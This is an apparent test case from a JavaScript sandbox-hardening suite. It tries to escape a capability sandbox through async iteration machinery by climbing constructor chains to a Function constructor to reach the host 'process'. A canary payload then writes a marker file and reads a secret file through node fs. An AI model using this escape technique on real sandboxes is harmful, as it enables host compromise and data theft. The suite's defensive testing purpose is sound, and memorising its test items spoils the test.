// attack: async iteration plumbing around capabilities: async generators yielding and returning capability promises (gen.return/gen.throw with them), for-await over sync iterators of thenables (the engine's async-from-sync wrapper calls guest then with internal closures), Array.fromAsync, Iterator.from and helpers mapping capability methods, Symbol.asyncIterator planted on capability objects and results; climb every function the engine hands over
// source: ECMA-262 AsyncFromSyncIteratorPrototype and Array.fromAsync; vm2 test/vm.js 'AsyncGeneratorFunction constructor extraction'; Endo SES docs on shared intrinsics
// needs: fs
// category: escape
// expect: blocked - engine-internal closures are shared-realm functions with tamed constructors; capability objects stay frozen
const ID = '112-async-iteration-machinery';
// canary payload: does something only when handed the real host `process` / node:fs
const pwnFs = (nfs) => {
  nfs.mkdirSync('/tmp/sesame-canary', { recursive: true });
  nfs.writeFileSync('/tmp/sesame-canary/' + ID, 'escaped by ' + ID);
  return nfs.readFileSync('/tmp/sesame-secret/secret.txt', 'utf8');
};
const pwn = (proc) => pwnFs(typeof proc.getBuiltinModule === 'function' ? proc.getBuiltinModule('fs') : proc.mainModule.require('fs'));
const msg = (e) => { try { return String((e && e.message) || e).slice(0, 120); } catch (_) { return 'unprintable'; } };
const tried = [];
let untold = 0;
const note = (s) => { if (tried.length < 90) tried.push(s); else untold++; };
const attempt = async (label, thunk) => {
  try { const s = await thunk(); if (s) return { escaped: label, secret: s }; note(label + ': nothing'); }
  catch (e) { note(label + ': ' + msg(e)); }
  return undefined;
};
// every road from a value to a Function constructor: its own constructor chain and its prototypes'
const met = new Set();
const climb = async (label, v) => {
  const roads = [];
  const add = (how, f) => { if (typeof f === 'function' && !met.has(f)) { met.add(f); roads.push([how, f]); } };
  let o = v;
  for (let i = 0; i < 5 && o !== null && (typeof o === 'object' || typeof o === 'function'); i++) {
    try { add('.constructor', o.constructor); } catch (e) {}
    try { add('.constructor.constructor', o.constructor.constructor); } catch (e) {}
    try { o = Object.getPrototypeOf(o); } catch (e) { break; }
  }
  for (const [how, F] of roads) {
    const r = await attempt(label + how, () => pwn(F('return process')()));
    if (r) return r;
  }
  return undefined;
};
const climbAll = async (pairs) => {
  // a snapshot: climbing may run the attack's own traps, which record more values
  for (const [label, v] of pairs.slice(0, 2500)) { const r = await climb(label, v); if (r) return r; }
  return undefined;
};
const values = [];
const thenable = (label, v) => ({ then(res, rej) { values.push([label + ' res', res], [label + ' rej', rej], [label + ' this', this]); res(v); } });
async function* gen() { const a = yield fs.readFile('data.txt', 'utf8'); values.push(['sent into generator', a]); yield thenable('yielded thenable', 1); return fs.stat('data.txt'); }
const it = gen();
values.push(['async generator object', it]);
try { values.push(['next 1', await it.next()]); values.push(['next 2', await it.next(fs.readdir('.'))]); } catch (e) { note('gen next: ' + msg(e)); }
try { values.push(['gen.return(capability promise)', await it.return(fs.readFile('data.txt'))]); } catch (e) { note('gen.return: ' + msg(e)); }
try { const it2 = gen(); await it2.next(); await it2.throw(await fs.readFile('missing').catch((e) => e)); } catch (e) { values.push(['gen.throw rethrown', e]); }
try { for await (const x of [thenable('for-await 1', 1), fs.readFile('data.txt', 'utf8'), thenable('for-await 2', 2)]) values.push(['for-await value', x]); } catch (e) { note('for await: ' + msg(e)); }
const syncIter = { [Symbol.iterator]() { let i = 0; return { next() { i++; return i < 3 ? { value: thenable('async-from-sync ' + i, i), done: false } : { done: true }; }, return(v) { values.push(['async-from-sync return args', arguments]); return { done: true }; } }; } };
try { for await (const x of syncIter) { values.push(['from sync', x]); break; } } catch (e) { note('async-from-sync: ' + msg(e)); }
if (typeof Array.fromAsync === 'function') {
  try { values.push(['Array.fromAsync', await Array.fromAsync([fs.readFile('data.txt', 'utf8'), thenable('fromAsync', 3)], (x) => { values.push(['fromAsync mapper args', arguments]); return x; })]); } catch (e) { note('fromAsync: ' + msg(e)); }
} else note('Array.fromAsync: absent');
if (typeof Iterator === 'function' && typeof Iterator.from === 'function') {
  try { const h = Iterator.from({ next() { return { value: 'data.txt', done: false }; } }).map(fs.stat).take(2); for (const p of h) values.push(['iterator helper mapped to fs.stat', await p]); } catch (e) { note('Iterator helpers: ' + msg(e)); }
} else note('Iterator.from: absent');
for (const [label, obj] of [['fs', fs], ['readdir result', await fs.readdir('.')]]) {
  try { obj[Symbol.asyncIterator] = async function* () { values.push(['planted asyncIterator this', this]); }; note(label + ': asyncIterator planted!'); } catch (e) { note(label + ' asyncIterator: ' + msg(e)); }
}
const hit = await climbAll(values);
if (hit) return hit;
return { blocked: tried, untold };
